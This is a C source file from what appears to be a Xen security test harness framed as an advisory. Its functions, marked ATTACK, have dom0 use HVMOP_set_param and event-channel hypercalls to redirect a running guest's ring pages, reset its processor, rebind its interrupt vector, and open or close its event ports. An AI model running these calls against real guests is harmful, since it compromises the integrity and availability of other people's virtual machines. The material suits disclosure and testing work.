/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a running guest's HVM parameters
 *
 * Claim:  dom0 changes where a guest finds its rings, how it gets its events
 *         and which hypervisor it believes to be on, and resets its processor.
 * Method: HVMOP_set_param.
 * Stock:  most parameters can be set at any time.
 */
#include <xenevtchn.h>

#include "../attack.h"

#include <xen/event_channel.h>

#define VECTOR_UPCALL 0x55

static enum verdict set(struct victim *v, uint32_t index, uint64_t value,
                        const char *effect)
{
    long rc = set_param(v->id, index, value);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, effect);
}

static enum verdict param_store_pfn(struct victim *v)
{
    return set(v, HVM_PARAM_STORE_PFN, LINES_GFN, "PARAM 1");
}
ATTACK(param_store_pfn, .needs = SHARED);

static enum verdict param_console_pfn(struct victim *v)
{
    return set(v, HVM_PARAM_CONSOLE_PFN, LINES_GFN, "PARAM 17");
}
ATTACK(param_console_pfn, .needs = SHARED);

static enum verdict param_viridian(struct victim *v)
{
    return set(v, HVM_PARAM_VIRIDIAN, 1, "CPUID");
}
ATTACK(param_viridian, .needs = SHARED);

/* Suspended and resumed, its processor starts at its reset vector. */
static enum verdict param_acpi_s_state(struct victim *v)
{
    long rc = set_param(v->id, HVM_PARAM_ACPI_S_STATE, 3);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    set_param(v->id, HVM_PARAM_ACPI_S_STATE, 0);
    return victim_complains(v, "RESET");
}
ATTACK(param_acpi_s_state, .needs = SHARED);

/* A port in the guest that is dom0's: XEN: EVTCHNOP_alloc_unbound. */
static int port_in(struct victim *v)
{
    struct evtchn_alloc_unbound op = {.dom = v->id, .remote_dom = 0};
    long rc = hypercall_2(__HYPERVISOR_event_channel_op,
                          EVTCHNOP_alloc_unbound, &op, sizeof(op));

    if ( rc )
        verdict(FAILURE, "no port in the guest: %ld", rc);
    return rc ? -1 : (int)op.port;
}

static enum verdict param_callback_irq(struct victim *v)
{
    xenevtchn_handle *channel = xenevtchn_open(NULL, 0);
    int remote = port_in(v), port;
    long rc = set_param(v->id, HVM_PARAM_CALLBACK_IRQ,
                        ((uint64_t)HVM_PARAM_CALLBACK_TYPE_VECTOR << 56) |
                            VECTOR_UPCALL);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    if ( remote < 0 )
        return FAILURE;
    port = xenevtchn_bind_interdomain(channel, v->id, remote);
    if ( port < 0 || xenevtchn_notify(channel, port) )
        return verdict(FAILURE, "the port does not work");
    return victim_complains(v, "VECTOR 85");
}
ATTACK(param_callback_irq, .needs = SHARED);

/* Claim: dom0 opens ports in a running guest, in the guest's name. */
static enum verdict evtchn_alloc_unbound(struct victim *v)
{
    struct evtchn_status status = {.dom = v->id};
    int port = port_in(v);

    if ( port < 0 )
        return FAILURE;
    status.port = port;
    hypercall_2(__HYPERVISOR_event_channel_op, EVTCHNOP_status, &status,
                sizeof(status));
    return verdict(status.status == EVTCHNSTAT_unbound ? SUCCESS : FAILURE,
                   "the guest's port %d has status %u", port, status.status);
}
ATTACK(evtchn_alloc_unbound, .needs = SHARED);

/* Claim: dom0 closes all ports of a running guest. */
static enum verdict evtchn_reset(struct victim *v)
{
    struct evtchn_reset op = {.dom = v->id};
    long rc;

    victim_pause(v);
    rc = hypercall_2(__HYPERVISOR_event_channel_op, EVTCHNOP_reset, &op,
                     sizeof(op));
    victim_unpause(v);
    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "CHANNEL");
}
ATTACK(evtchn_reset, .needs = SHARED);
